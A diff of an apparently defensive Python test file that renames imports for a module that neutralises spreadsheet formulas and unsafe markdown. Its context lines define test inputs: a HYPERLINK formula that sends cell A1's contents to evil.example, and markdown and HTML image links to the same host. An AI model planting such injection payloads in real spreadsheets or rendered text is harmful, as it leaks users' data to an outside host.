@@ -19,8 +19,8 @@ from click.testing import CliRunner
 from markdown_it import MarkdownIt
 from small_data import write_small_data
 
-from obligations.cli import main
-from obligations.safe_text import FORMULA_TRIGGERS, markdown_text, neutralise_formula, spreadsheet_csv
+from bosetting.obligations.cli import main
+from bosetting.obligations.safe_text import FORMULA_TRIGGERS, markdown_text, neutralise_formula, spreadsheet_csv
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1;"Oslo")'
 MARKDOWN_NAME = ('![x](https://evil.example/x.png) <img src="https://evil.example/y.png"> '
